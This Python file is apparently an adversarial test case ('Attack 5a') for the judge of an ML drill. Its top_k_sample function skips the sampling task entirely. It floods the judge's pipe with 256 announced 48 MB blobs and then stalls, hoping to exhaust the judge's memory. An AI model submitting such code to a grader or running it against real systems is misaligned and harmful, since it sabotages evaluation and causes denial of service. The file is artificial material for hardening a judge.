# mlprep drill: top_k
"""Attack 5a: answer with frames that announce more than the judge can hold: 256 blobs, each
48 MB (the first is really sent), hoping the judge reads them all into memory."""
import json
import os
import struct
import sys

TARGETS = {}
BLOB = 48 << 20


def top_k_sample(logits, k, temperature=1.0, seed=None):
    out = int(sys.argv[-1])
    header = json.dumps({"m": {"op": "result", "ok": {"t": "list", "v": [{"t": "ndarray", "b": i} for i in range(256)]}},
                         "n": 256}).encode()
    os.write(out, struct.pack(">I", len(header)) + header)
    chunk = b"\0" * (1 << 20)
    try:
        for _ in range(256):
            os.write(out, struct.pack(">Q", BLOB))
            for _ in range(BLOB // len(chunk)):
                os.write(out, chunk)
    except OSError:
        pass
    import time
    time.sleep(30)
